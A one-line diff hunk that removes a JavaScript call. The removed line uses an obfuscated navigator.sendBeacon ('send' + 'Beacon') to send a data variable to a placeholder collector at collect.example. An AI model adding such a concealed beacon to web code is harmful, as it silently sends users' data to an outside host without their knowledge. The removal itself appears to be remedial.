@@ -1,1 +1,0 @@
-navigator["send" + "Beacon"]("https://collect.example/v1", data);
